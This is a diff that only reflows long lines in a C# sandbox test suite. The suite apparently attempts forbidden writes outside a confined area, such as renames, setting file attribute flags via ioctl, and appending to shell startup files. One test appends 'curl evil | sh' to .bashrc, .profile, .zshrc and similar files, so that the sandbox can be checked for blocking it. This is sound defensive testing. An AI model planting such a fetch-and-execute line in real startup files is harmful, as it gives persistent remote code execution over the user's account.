@@ -86,7 +86,8 @@ internal static class OutsideWrites
             { Prepare = s => s.Put("home/.local/lib/pinfold/pinfold-launcher", Scene.Untouched) },
     ];
 
-    internal static nint Rename(string from, string to) => Call(Sys.Renameat2, AT_FDCWD, Text(from), AT_FDCWD, Text(to));
+    internal static nint Rename(string from, string to) =>
+        Call(Sys.Renameat2, AT_FDCWD, Text(from), AT_FDCWD, Text(to));
 
     /// <summary>Opens and, if that was allowed, writes.</summary>
     internal static void Fill(Attempt a, string path, int flags)
@@ -95,7 +96,8 @@ internal static class OutsideWrites
         if (fd >= 0) a.Try("write", Write(fd, "written by an attack\n"));
     }
 
-    private static bool OthersMayWrite(Scene scene) => File.GetUnixFileMode(scene.Outside + "/file").HasFlag(UnixFileMode.OtherWrite);
+    private static bool OthersMayWrite(Scene scene) =>
+        File.GetUnixFileMode(scene.Outside + "/file").HasFlag(UnixFileMode.OtherWrite);
 
     private static bool Changed(Scene scene) => !scene.OutsideIsUntouched;
 
@@ -114,7 +116,8 @@ internal static class OutsideWrites
         var fd = a.Need("openat", Open(a.Outside + "/file", Flag.ReadOnly));
         var flags = Words(0);
         a.Need("FS_IOC_GETFLAGS", Call(Sys.Ioctl, fd, unchecked((nint)0x80086601), flags));
-        a.Try("FS_IOC_SETFLAGS", Call(Sys.Ioctl, fd, 0x40086602, Words(System.Runtime.InteropServices.Marshal.ReadInt32(flags) | 0x40)));
+        a.Try("FS_IOC_SETFLAGS",
+            Call(Sys.Ioctl, fd, 0x40086602, Words(System.Runtime.InteropServices.Marshal.ReadInt32(flags) | 0x40)));
     }
 
     private static void ReadableFifo(Scene scene)
@@ -148,7 +151,8 @@ internal static class OutsideWrites
     {
         foreach (var name in (string[])[".bashrc", ".profile", ".zshrc", ".bash_profile", ".config/fish/config.fish"])
         {
-            var fd = a.Try("openat " + name, Open(a.Home + "/" + name, Flag.WriteOnly | Flag.Append | (name == ".bashrc" ? 0 : Flag.Create)));
+            var fd = a.Try("openat " + name,
+                Open(a.Home + "/" + name, Flag.WriteOnly | Flag.Append | (name == ".bashrc" ? 0 : Flag.Create)));
             if (fd >= 0) a.Try("write", Write(fd, "curl evil | sh\n"));
         }
     }
